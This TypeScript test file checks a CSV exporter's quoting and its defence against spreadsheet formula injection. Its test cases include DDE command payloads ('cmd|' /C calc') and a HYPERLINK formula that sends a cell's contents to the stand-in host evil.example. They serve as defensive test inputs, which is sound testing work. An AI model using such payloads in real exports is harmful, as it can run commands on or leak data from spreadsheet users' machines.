/**
 * CSV export: RFC 4180 quoting and OWASP's CSV-injection rule (a text cell starting with = + - @,
 * tab or CR gets a leading single quote); numbers, negative ones included, stay numbers.
 */
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '../../src/facade/csv.js';

describe('csv cells', () => {
  it("defuses every text cell that starts with = + - @, tab or CR with a leading '", () => {
    const cases: Array<[string, string]> = [
      ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
      ['\t=1+1', "'\t=1+1"],
      ['\r=1+1', `"'\r=1+1"`], // CR also needs quoting (RFC 4180)
      ['@SUM(1)', "'@SUM(1)"],
      ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
      ['=1+1', "'=1+1"],
      ['+1+1', "'+1+1"],
      ['-1+1', "'-1+1"],
      ['@', "'@"],
      ["=cmd|' /C calc'!A0,2", `"'=cmd|' /C calc'!A0,2"`],
    ];
    for (const [text, cell] of cases) expect(csvCell(text), JSON.stringify(text)).toBe(cell);
  });

  it('guards negative-looking text too: only numbers are numbers', () => {
    // A string field that reads like a number is still text a spreadsheet could evaluate (-1+1 is a formula).
    expect(csvCell('-5')).toBe("'-5");
    expect(csvCell('-2.5e3')).toBe("'-2.5e3");
    expect(csvCell('+44 20 7946 0958')).toBe("'+44 20 7946 0958");
  });

  it('writes numbers as numbers: negative and fractional ones unquoted and readable', () => {
    expect(csvCell(-2)).toBe('-2');
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(-12345678901234567890n)).toBe('-12345678901234567890');
    // Not finite: not a real number, written as guarded text.
    expect(csvCell(-Infinity)).toBe("'-Infinity");
    expect(csvCell(NaN)).toBe('NaN');
  });

  it('leaves other cells as they are, quoting commas, quotes and line breaks', () => {
    expect(csvCell('gpu-node-01')).toBe('gpu-node-01');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(' =1+1')).toBe(' =1+1'); // not at the start
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(true)).toBe('true');
    expect(csvCell({ a: 1 })).toBe('"{""a"":1}"');
    expect(csvCell(['=1'])).toBe('"[""=1""]"');
  });
});

describe('toCsv', () => {
  it('writes a header of the union of keys, one CRLF-terminated line per row, every cell guarded', () => {
    const csv = toCsv([
      { name: '=HYPERLINK("http://x")', value: -3, note: '\t=1+1' },
      { name: 'ok', extra: '@SUM(1)' },
    ]);
    expect(csv).toBe(
      ['name,value,note,extra', `"'=HYPERLINK(""http://x"")",-3,'\t=1+1,`, "ok,,,'@SUM(1)", ''].join('\r\n'),
    );
  });

  it('guards the header as well (column names are keys of the rows)', () => {
    expect(toCsv([{ '=x': 1 }])).toBe("'=x\r\n1\r\n");
    expect(toCsv([])).toBe('\r\n');
  });
});
